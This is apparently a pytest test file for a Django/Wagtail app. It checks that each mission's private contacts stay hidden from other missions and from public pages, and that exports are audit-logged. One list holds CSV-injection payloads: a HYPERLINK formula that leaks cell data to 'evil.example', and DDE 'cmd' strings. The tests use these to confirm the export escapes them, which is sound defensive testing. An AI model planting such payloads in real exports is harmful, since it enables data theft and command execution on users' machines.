"""A mission's multipliers are private to that mission and MCD, and never public."""

import csv
import io

import pytest
from django.urls import reverse
from wagtail.models import ModelLogEntry

from heroes.models import Multiplier, MultiplierKind

pytestmark = pytest.mark.django_db


@pytest.fixture
def kenya_journalist(kenya):
    return Multiplier.objects.create(
        mission=kenya,
        name="Achieng Odhiambo",
        kind=MultiplierKind.JOURNALIST,
        organisation="Daily Nation",
        email="achieng@nation.example.org",
        phone="+254 700 000 000",
        consents_to_contact=True,
    )


@pytest.fixture
def italy_donor(italy):
    return Multiplier.objects.create(
        mission=italy,
        name="Fondazione Esempio",
        kind=MultiplierKind.DONOR,
        email="info@fondazione.example.org",
    )


def listing(client, user, **params):
    client.force_login(user)
    response = client.get(reverse("wagtailsnippets_heroes_multiplier:list"), params)
    assert response.status_code == 200
    return response.content.decode()


def test_a_mission_sees_only_its_own_multipliers(
    client, kenya_editor, kenya_journalist, italy_donor
):
    content = listing(client, kenya_editor)
    assert "Achieng Odhiambo" in content
    assert "Fondazione Esempio" not in content


def test_mcd_sees_every_missions_multipliers(client, mcd, kenya_journalist, italy_donor):
    content = listing(client, mcd)
    assert "Achieng Odhiambo" in content
    assert "Fondazione Esempio" in content


@pytest.mark.parametrize("view", ["edit", "delete", "inspect", "history"])
def test_another_missions_multiplier_cannot_be_reached(client, kenya_editor, italy_donor, view):
    client.force_login(kenya_editor)
    url = reverse(f"wagtailsnippets_heroes_multiplier:{view}", args=(italy_donor.pk,))
    # As if it did not exist: the mission's own rights would let it see such a view.
    assert client.get(url).status_code == 404
    assert client.post(url, {"name": "Hijacked"}).status_code == 404
    italy_donor.refresh_from_db()
    assert italy_donor.name == "Fondazione Esempio"


def test_a_mission_can_only_file_multipliers_under_itself(client, kenya_editor, kenya, italy):
    client.force_login(kenya_editor)
    url = reverse("wagtailsnippets_heroes_multiplier:add")
    data = {
        "name": "Mwalimu School",
        "kind": "school",
        "organisation": "",
        "email": "",
        "phone": "",
    }

    refused = client.post(url, {**data, "mission": italy.pk})
    accepted = client.post(url, {**data, "mission": kenya.pk})

    assert refused.status_code == 200  # the form answers with an error
    assert accepted.status_code == 302
    assert list(Multiplier.objects.values_list("mission__country", flat=True)) == ["KE"]


def test_the_csv_export_for_mail_outs_holds_the_missions_multipliers_only(
    client, kenya_editor, kenya_journalist, italy_donor
):
    client.force_login(kenya_editor)

    response = client.get(reverse("wagtailsnippets_heroes_multiplier:list"), {"export": "csv"})

    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content)))
    assert [row["Name"] for row in rows] == ["Achieng Odhiambo"]
    assert rows[0]["Email"] == "achieng@nation.example.org"


def test_multipliers_never_appear_in_public_output(client, home_page, kenya_journalist):
    secrets = ["Achieng Odhiambo", "achieng@nation.example.org", "+254 700 000 000"]
    outputs = [
        client.get("/en/").content,
        client.get("/en/search/", {"query": "Achieng"}).content,
        client.get("/api/v3/openapi.json").content,
        client.get("/api/v3/pages/").content,
        client.get("/sitemap.xml").content,
    ]
    for output in outputs:
        for secret in secrets:
            assert secret.encode() not in output
    assert b"multiplier" not in outputs[2].lower()


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_the_csv_export_escapes_every_cell_a_spreadsheet_would_run_as_a_formula(client, mcd, kenya):
    for position, formula in enumerate(FORMULAS):
        Multiplier.objects.create(
            mission=kenya,
            name=formula,
            kind=MultiplierKind.JOURNALIST,
            organisation=f"Outlet {position}",
            notes=formula,
        )
    client.force_login(mcd)

    response = client.get(reverse("wagtailsnippets_heroes_multiplier:list"), {"export": "csv"})

    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = {row["Organisation"]: row for row in csv.DictReader(io.StringIO(content))}
    for position, formula in enumerate(FORMULAS):
        row = rows[f"Outlet {position}"]
        assert row["Name"] == f"'{formula}"
        assert row["Notes"] == f"'{formula}"


def test_the_csv_export_leaves_ordinary_cells_as_they_are(client, kenya_editor, kenya_journalist):
    kenya_journalist.notes = "Met at the launch; call before 5 pm.\nPrefers WhatsApp."
    kenya_journalist.save()
    client.force_login(kenya_editor)

    response = client.get(reverse("wagtailsnippets_heroes_multiplier:list"), {"export": "csv"})

    content = b"".join(response.streaming_content).decode("utf-8-sig")
    [row] = csv.DictReader(io.StringIO(content))
    assert row["Name"] == "Achieng Odhiambo"
    assert row["Organisation"] == "Daily Nation"
    assert row["Notes"] == "Met at the launch; call before 5 pm.\nPrefers WhatsApp."


@pytest.mark.parametrize("spreadsheet", ["csv", "xlsx"])
def test_an_export_is_in_the_audit_log_of_each_mission_whose_multipliers_left(
    client, mcd, kenya, kenya_journalist, italy_donor, spreadsheet
):
    client.force_login(mcd)

    response = client.get(
        reverse("wagtailsnippets_heroes_multiplier:list"), {"export": spreadsheet}
    )
    browsing = client.get(reverse("wagtailsnippets_heroes_multiplier:list"))

    assert (response.status_code, browsing.status_code) == (200, 200)
    entries = ModelLogEntry.objects.filter(action="heroes.multipliers_exported")
    assert sorted((e.object_id, e.user, e.data["format"], e.data["count"]) for e in entries) == [
        (str(kenya.pk), mcd, spreadsheet, 1),
        (str(italy_donor.mission_id), mcd, spreadsheet, 1),
    ]
    assert entries.first().message == "Multipliers exported"
